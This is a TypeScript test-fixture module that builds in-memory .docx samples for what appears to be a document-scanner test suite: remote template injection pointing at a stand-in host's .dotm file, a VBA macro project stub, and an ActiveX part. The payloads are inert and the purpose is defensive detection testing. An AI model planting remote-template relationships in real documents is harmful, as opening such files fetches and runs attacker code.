// .docx files that carry code (macros, ActiveX, remote templates), and honest
// ones shaped the same way, built in memory like scripts/lib/sample-documents.ts's.
// PDFs are built with scripts/lib/pdf-objects.ts; the shapes the bench also
// times are in scripts/lib/hostile-documents.ts.
import { docxBytes } from '../../scripts/lib/sample-documents.ts';

// ---------------------------------------------------------------------------
// Word .docx

const relationships = (...relationship: string[]) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  relationship.join('') +
  '</Relationships>';

const relationshipType = (type: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;

/** A .docx whose document part has these relationships (word/_rels/document.xml.rels), deflated as Word stores it. */
export function docxWithDocumentRelationships(...relationship: string[]): Buffer {
  return docxBytes([{ name: 'word/_rels/document.xml.rels', content: relationships(...relationship), deflate: true }]);
}

export const hyperlink = (id: string, target: string) =>
  `<Relationship Id="${id}" Type="${relationshipType('hyperlink')}" Target="${target}" TargetMode="External"/>`;

/** A .docx that loads its template from a web server when opened: the classic remote template injection. */
export function docxWithRemoteTemplate(targetMode = 'External'): Buffer {
  return docxBytes([
    {
      name: 'word/settings.xml',
      content:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: relationships(
        `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" ` +
          `Target="http://203.0.113.7/cv-template.dotm" TargetMode="${targetMode}"/>`,
      ),
      deflate: true,
    },
  ]);
}

/** A .docx whose document is related to a VBA macro project, as a macro-enabled one saved under .docx is. */
export const docxWithMacroProject = () =>
  docxBytes([
    {
      name: 'word/_rels/document.xml.rels',
      content: relationships(
        '<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
      ),
    },
    { name: 'word/vbaProject.bin', content: Buffer.from('VBA project') },
  ]);

export const docxWithActiveX = () =>
  docxBytes([
    {
      name: 'word/activeX/activeX1.xml',
      content: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    },
  ]);
